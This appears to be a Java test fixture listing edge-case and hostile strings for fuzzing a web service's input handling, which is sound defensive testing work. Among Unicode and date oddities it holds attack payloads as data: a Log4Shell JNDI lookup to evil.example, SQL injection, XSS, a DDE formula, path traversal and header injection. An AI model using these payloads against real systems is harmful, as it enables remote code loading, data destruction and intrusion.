package dev.winnow.web.hostile;

import java.util.List;

/** Texts that programs have failed on. */
final class OddTexts {

    static final List<String> ALL = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\uD83D",
            "\uDE00\uD83D",
            "\uFEFFb2b",
            "\uFFFE\uFFFF",
            "\u202Efdp.xslx\u2066",
            "\u200B\u200D\u2060",
            "e\u0301".repeat(200),
            "\uFDFA".repeat(100),
            "\u0130\u0131\u00DF",
            "\u2028\u2029\u0085",
            "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
            "\u001B[31m",
            "a\r\nX-Injected: 1",
            "%00%ff%zz",
            "%s%n%1$999999999d",
            "{0}{1,choice,0#a}{",
            "${jndi:ldap://evil.example/a}",
            "#{7*7}{{7*7}}",
            "'; DROP TABLE decision; --",
            "<script>alert(1)</script>",
            "=cmd|' /C calc'!A0",
            "../../../etc/passwd",
            "file:///etc/passwd",
            "~1~0/",
            "null",
            "NaN",
            "-1",
            "1e999999999",
            "9223372036854775808",
            "true",
            "none",
            "full",
            "b2b",
            "FIT-IND-04",
            "L-1001",
            "2026-02-30",
            "2026-02-28T24:00:00Z",
            "2026-02-28T23:59:60Z",
            "2026-03-02T09:00:00+99:99",
            "+999999999-12-31T23:59:59Z",
            "-000001-01-01T00:00:00Z",
            "1969-12-31T23:59:59.999999999Z",
            "019a9f3e-8a52-7cc1-9d0b-3f6f4a1f2b77",
            "\u0661\u0662\u0663",
            "x".repeat(200),
            "x".repeat(201),
            "\u674E".repeat(2_000),
            "x".repeat(70_000));

    private OddTexts() {}

    /** The texts that an HTTP header can contain. */
    static List<String> inHeaders() {
        return ALL.stream().filter(text -> text.matches("[\\x20-\\x7e]{0,300}")).toList();
    }
}
